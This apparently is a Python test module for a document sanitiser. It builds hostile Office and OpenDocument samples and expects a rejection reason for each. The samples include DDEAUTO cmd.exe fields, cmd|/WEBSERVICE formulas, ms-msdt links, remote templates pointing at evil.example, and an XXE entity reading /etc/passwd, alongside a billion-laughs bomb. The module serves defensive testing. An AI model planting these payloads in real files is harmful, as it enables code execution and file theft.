# ruff: noqa: E501 - rows of hostile values and of markup stay on their lines
"""Hostile Office documents: macros, objects, references to outside, fields that run, entities, markings."""

from __future__ import annotations

from collections.abc import Iterator

from apps.documents.inspection.outcome import Reason, Removed
from tests.hostile_files.case import Case
from tests.hostile_files.samples import (
    SHEET,
    WORD,
    W,
    docx,
    located,
    odf,
    picture,
    pptx,
    relation,
    relations,
    types,
    xlsx,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><z>&c;</z>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd">]><z>&x;</z>'


def cases() -> Iterator[Case]:
    yield from parts()
    yield from references()
    yield from fields()
    yield from xml()
    yield from open_documents()
    yield from whole()


def parts() -> Iterator[Case]:
    for label, data in (
        ("docx", docx()),
        ("xlsx", xlsx()),
        ("pptx", pptx()),
        ("odt", odf()),
        ("ods", odf("spreadsheet")),
        ("odp", odf("presentation")),
    ):
        yield Case(f"{label}-plain", f"a.{label}", data, None)
    for number, (part, reason) in enumerate(
        (
            ("word/vbaProject.bin", Reason.MACRO),
            ("word/vbaData.xml", Reason.MACRO),
            ("customUI/customUI.xml", Reason.MACRO),
            ("word/activeX/activeX1.xml", Reason.EMBEDDED_OBJECT),
            ("word/activeX/activeX1.bin", Reason.EMBEDDED_OBJECT),
            ("word/embeddings/oleObject1.bin", Reason.EMBEDDED_OBJECT),
            ("word/embeddings/evil.exe", Reason.EMBEDDED_OBJECT),
            ("word/afchunk.mht", Reason.EMBEDDED_OBJECT),
            ("word/chunk.html", Reason.EMBEDDED_OBJECT),
            ("word/media/movie.mp4", Reason.EMBEDDED_OBJECT),
            ("word/webextensions/webextension1.xml", Reason.EXTERNAL_REFERENCE),
            ("word/unknown.dat", Reason.EMBEDDED_OBJECT),
            ("word/media/image1.png", Reason.TYPE_NOT_ALLOWED),
            ("script.js", Reason.EMBEDDED_OBJECT),
        )
    ):
        yield Case(
            f"docx-part-{number}",
            "a.docx",
            docx({part: b"<a/>" if part.endswith("xml") else b"MZ payload"}),
            reason,
            member=part,
        )
    for part in ("xl/macrosheets/sheet1.xml", "xl/dialogsheets/sheet1.xml", "xl/vbaProject.bin"):
        yield Case(f"xlsx-{part[3:8]}", "a.xlsx", xlsx({part: "<a/>"}), Reason.MACRO)
    for part in ("xl/connections.xml", "xl/externalLinks/externalLink1.xml", "xl/queryTables/queryTable1.xml"):
        yield Case(f"xlsx-{part[3:11]}", "a.xlsx", xlsx({part: "<a/>"}), Reason.EXTERNAL_REFERENCE)
    yield Case(
        "docm",
        "a.docx",
        docx(
            {
                "[Content_Types].xml": types(
                    ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
                )
            }
        ),
        Reason.MACRO,
    )
    yield Case("docm-named-docm", "a.docm", docx(), Reason.EXTENSION_NOT_ALLOWED)
    yield Case(
        "xlsm",
        "a.xlsx",
        xlsx(
            {"[Content_Types].xml": types(("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"))}
        ),
        Reason.MACRO,
    )
    yield Case(
        "xlsb",
        "a.xlsx",
        xlsx(
            {
                "[Content_Types].xml": types(
                    ("/xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main")
                )
            }
        ),
        Reason.MACRO,
    )
    yield Case(
        "docx-disguised-macro",
        "a.docx",
        docx({"word/x.xml": "<a/>"}, more=(("/word/x.xml", "application/vnd.ms-office.vbaProject"),)),
        Reason.MACRO,
    )
    yield Case(
        "docx-two-mains",
        "a.docx",
        docx(more=(("/xl/workbook.xml", f"{SHEET}.sheet.main+xml"),)),
        Reason.TYPE_NOT_ALLOWED,
    )
    yield Case(
        "dotx",
        "a.docx",
        docx({"[Content_Types].xml": types(("/word/document.xml", f"{WORD}.template.main+xml"))}),
        Reason.TYPE_NOT_ALLOWED,
    )
    yield Case("xlsx-named-docx", "a.docx", xlsx(), Reason.EXTENSION_MISMATCH)
    yield Case("docx-embedded-workbook", "a.docx", docx({"word/embeddings/chart.xlsx": xlsx()}), None)
    yield Case(
        "docx-embedded-macro",
        "a.docx",
        docx({"word/embeddings/chart.xlsx": xlsx({"xl/vbaProject.bin": b"x"})}),
        Reason.MACRO,
    )
    yield Case(
        "docx-embedded-marked",
        "a.docx",
        docx({"word/embeddings/c.xlsx": xlsx(strings="<si><t>NATO SECRET</t></si>")}),
        Reason.MARKED_CLASSIFIED,
    )
    yield Case(
        "docx-photo",
        "a.docx",
        docx({"word/media/image1.jpeg": located("JPEG")}),
        None,
        frozenset({Removed.METADATA}),
        (b"SecretCamera",),
    )
    yield Case(
        "pptx-photo",
        "a.pptx",
        pptx({"ppt/media/image1.png": located("PNG")}),
        None,
        frozenset({Removed.METADATA}),
        (b"SecretCamera",),
    )
    yield Case(
        "odt-photo",
        "a.odt",
        odf(parts={"Pictures/1.jpg": located("JPEG")}),
        None,
        frozenset({Removed.METADATA}),
        (b"SecretCamera",),
    )
    yield Case(
        "docx-picture-then-zip", "a.docx", docx({"word/media/image1.png": picture("PNG") + docx()}), Reason.POLYGLOT
    )
    yield Case(
        "docx-signed-photo",
        "a.docx",
        docx({"_xmlsignatures/sig1.xml": "<a/>", "word/media/i.jpg": located("JPEG")}),
        Reason.SIGNED_WITH_ACTIVE_CONTENT,
    )
    for number, svg in enumerate(("<svg><script>1</script></svg>", '<svg onload="1"/>', "<svg><foreignObject/></svg>")):
        yield Case(f"docx-svg-{number}", "a.docx", docx({"word/media/i.svg": svg}), Reason.MARKUP)
    yield Case(
        "docx-svg-outside",
        "a.docx",
        docx({"word/media/i.svg": '<svg><image href="http://evil.example/"/></svg>'}),
        Reason.EXTERNAL_REFERENCE,
    )
    yield Case("docx-svg-plain", "a.docx", docx({"word/media/i.svg": '<svg><path d="M0 0"/></svg>'}), None)


def references() -> Iterator[Case]:
    for kind, target in (
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("attachedTemplate", "\\\\evil\\share\\t.dotm"),
        ("image", "http://evil.example/pixel.png"),
        ("frame", "http://evil.example/"),
        ("subDocument", "file:///c:/a.docx"),
        ("externalLinkPath", "file:///c:/a.xlsx"),
        ("hyperlink", "file://evil/share"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "\\\\evil\\share"),
        ("hyperlink", "ms-msdt:/id x"),
        ("hyperlink", "search-ms:query=x"),
        ("video", "http://evil.example/v"),
    ):
        linked = docx(links=(relation(kind, target, "External"),))
        yield Case(
            f"docx-outside-{kind}-{target[:9]}",
            "a.docx",
            linked,
            Reason.EXTERNAL_REFERENCE,
            member="word/_rels/document.xml.rels",
        )
    yield Case(
        "docx-outside-ole",
        "a.docx",
        docx(links=(relation("oleObject", "mhtml:http://evil.example", "External"),)),
        Reason.EMBEDDED_OBJECT,
    )
    yield Case(
        "docx-outside-internal",
        "a.docx",
        docx(links=(relation("image", "http://evil.example/a.png"),)),
        Reason.EXTERNAL_REFERENCE,
    )
    yield Case(
        "docx-outside-case",
        "a.docx",
        docx(links=(relation("image", "http://evil.example/a.png", "EXTERNAL"),)),
        Reason.EXTERNAL_REFERENCE,
    )
    yield Case("docx-link", "a.docx", docx(links=(relation("hyperlink", "https://firm.example/", "External"),)), None)
    yield Case("docx-mail", "a.docx", docx(links=(relation("hyperlink", "mailto:a@firm.example", "External"),)), None)
    yield Case("docx-altchunk", "a.docx", docx(links=(relation("aFChunk", "chunk.xml"),)), Reason.EMBEDDED_OBJECT)
    settings = {
        "word/_rels/settings.xml.rels": relations(
            relation("attachedTemplate", "http://evil.example/t.dotm", "External")
        )
    }
    yield Case("docx-settings-template", "a.docx", docx(settings), Reason.EXTERNAL_REFERENCE)


def fields() -> Iterator[Case]:
    for number, code in enumerate(
        (
            'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
            "DDE excel x",
            "INCLUDEPICTURE http://evil.example/",
            "INCLUDETEXT c:\\\\a",
            "MACROBUTTON AutoOpen x",
            "LINK Excel.Sheet.12 a",
        )
    ):
        simple = f"<w:p><w:fldSimple w:instr='{code}'/></w:p>"
        yield Case(f"docx-field-{number}", "a.docx", docx(body=simple), Reason.ACTIVE_FIELD)
        cut = len(code) // 3
        runs = f"<w:p><w:r><w:instrText> {code[:2]}</w:instrText></w:r><w:r><w:instrText>{code[2:cut]}</w:instrText></w:r><w:r><w:instrText>{code[cut:]}</w:instrText></w:r></w:p>"
        yield Case(f"docx-field-split-{number}", "a.docx", docx(body=runs), Reason.ACTIVE_FIELD)
    yield Case("docx-field-page", "a.docx", docx(body="<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>"), None)
    for number, formula in enumerate(
        (
            "cmd|' /C calc'!A0",
            "WEBSERVICE(&quot;http://evil.example&quot;)",
            "CALL(&quot;urlmon&quot;)",
            "EXEC(&quot;calc&quot;)",
            "REGISTER.ID(1)",
            "RTD(&quot;x&quot;)",
        )
    ):
        yield Case(f"xlsx-formula-{number}", "a.xlsx", xlsx(cells=f"<c><f>{formula}</f></c>"), Reason.ACTIVE_FIELD)
    yield Case("xlsx-formula-sum", "a.xlsx", xlsx(cells="<c><f>SUM(A1:A9)*RECALL(1)-B2</f></c>"), None)
    yield Case("xlsx-dde", "a.xlsx", xlsx({"xl/other.xml": '<a><ddeLink ddeService="cmd"/></a>'}), Reason.ACTIVE_FIELD)
    for number, action in enumerate(("ppaction://program", "ppaction://macro?name=x", "ppaction://ole?verb=0")):
        slide = {"ppt/slides/slide2.xml": f'<s><hlinkClick action="{action}"/></s>'}
        yield Case(f"pptx-action-{number}", "a.pptx", pptx(slide), Reason.ACTIVE_FIELD)


def xml() -> Iterator[Case]:
    for number, body in enumerate((LAUGHS, OUTSIDE, "<!DOCTYPE z><z/>")):
        yield Case(f"docx-entities-{number}", "a.docx", docx({"word/styles.xml": body}), Reason.XML_DOCTYPE)
        yield Case(
            f"docx-entities-utf16-{number}",
            "a.docx",
            docx({"word/styles.xml": body.replace('<?xml version="1.0"?>', "").encode("utf-16")}),
            Reason.XML_DOCTYPE,
        )
        yield Case(f"odt-entities-{number}", "a.odt", odf(parts={"styles.xml": body}), Reason.XML_DOCTYPE)
        yield Case(f"types-entities-{number}", "a.docx", docx({"[Content_Types].xml": body}), Reason.XML_DOCTYPE)
    yield Case("docx-deep-xml", "a.docx", docx({"word/styles.xml": "<a>" * 5_000 + "</a>" * 5_000}), Reason.TOO_COMPLEX)
    yield Case("docx-broken-xml", "a.docx", docx({"word/styles.xml": "<a><b></a>"}), Reason.MALFORMED)
    yield Case("docx-no-xml", "a.docx", docx({"word/styles.xml": b"\0\1\2"}), Reason.MALFORMED)
    yield Case(
        "docx-odd-encoding",
        "a.docx",
        docx({"word/styles.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}),
        Reason.MALFORMED,
    )
    yield Case(
        "docx-stylesheet",
        "a.docx",
        docx({"word/styles.xml": '<?xml-stylesheet href="http://evil.example"?><a/>'}),
        Reason.EXTERNAL_REFERENCE,
    )


def open_documents() -> Iterator[Case]:
    yield Case("odt-basic", "a.odt", odf(parts={"Basic/Standard/Module1.xml": "<a/>"}), Reason.MACRO)
    yield Case("odt-scripts", "a.odt", odf(parts={"Scripts/python/a.py": "x"}), Reason.MACRO)
    yield Case("odt-listener", "a.odt", odf(body="<script:event-listener/>"), Reason.MACRO)
    yield Case("odt-ole", "a.odt", odf(parts={"Object 1": OLE}), Reason.EMBEDDED_OBJECT)
    locked = '<m:manifest xmlns:m="urn:x"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'
    yield Case("odt-encrypted", "a.odt", odf(parts={"META-INF/manifest.xml": locked}), Reason.ENCRYPTED)
    for number, href in enumerate(("http://evil.example/a.png", "file:///etc/passwd", "//evil/share", "../../a.png")):
        yield Case(
            f"odt-outside-{number}", "a.odt", odf(body=f'<draw:image xlink:href="{href}"/>'), Reason.EXTERNAL_REFERENCE
        )
    yield Case("odt-link", "a.odt", odf(body='<text:a xlink:href="https://firm.example">x</text:a>'), None)
    yield Case(
        "odt-link-script",
        "a.odt",
        odf(body='<text:a xlink:href="vnd.sun.star.script:a">x</text:a>'),
        Reason.EXTERNAL_REFERENCE,
    )
    yield Case("odt-dde", "a.odt", odf(body="<text:dde-connection/>"), Reason.ACTIVE_FIELD)
    yield Case(
        "ods-formula",
        "a.ods",
        odf("spreadsheet", body="<table:table-cell table:formula='of:=WEBSERVICE(\"x\")'/>"),
        Reason.ACTIVE_FIELD,
    )
    yield Case("odf-template", "a.odt", odf("text-template"), Reason.TYPE_NOT_ALLOWED)
    yield Case("ods-named-odt", "a.odt", odf("spreadsheet"), Reason.EXTENSION_MISMATCH)


def whole() -> Iterator[Case]:
    for ending in ("doc", "xls", "ppt", "docx", "msg"):
        yield Case(f"ole-{ending}", f"a.{ending}", OLE, Reason.LEGACY_OFFICE)
    yield Case("ole-encrypted", "a.docx", OLE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 99, Reason.ENCRYPTED)
    yield Case("docx-cut", "a.docx", docx()[:-40], Reason.TRUNCATED)
    yield Case("docx-then-html", "a.docx", docx() + b"<script>1</script>", Reason.POLYGLOT)
    header = {
        "word/header1.xml": f"<w:hdr {W}><w:p><w:r><w:t>Для службового </w:t></w:r><w:r><w:t>користування</w:t></w:r></w:p></w:hdr>"
    }
    yield Case("docx-marked-header", "a.docx", docx(header), Reason.MARKED_CLASSIFIED)
    yield Case(
        "docx-marked-title",
        "a.docx",
        docx({"docProps/core.xml": "<c><title>NATO RESTRICTED</title></c>"}),
        Reason.MARKED_CLASSIFIED,
    )
    yield Case(
        "xlsx-marked-footer",
        "a.xlsx",
        xlsx(
            {
                "xl/worksheets/sheet2.xml": '<w><headerFooter><oddFooter>&amp;C&amp;"Arial,Bold"&amp;14ДСК</oddFooter></headerFooter></w>'
            }
        ),
        Reason.MARKED_CLASSIFIED,
    )
    yield Case("pptx-marked", "a.pptx", pptx(text="RESTREINT UE/EU RESTRICTED"), Reason.MARKED_CLASSIFIED)
    yield Case("odt-marked", "a.odt", odf(body="<text:p>Т А Є М Н О</text:p>"), Reason.MARKED_CLASSIFIED)
    yield Case(
        "docx-mentions",
        "a.docx",
        docx(body="<w:p><w:r><w:t>Our staff are cleared up to NATO SECRET level.</w:t></w:r></w:p>"),
        None,
    )
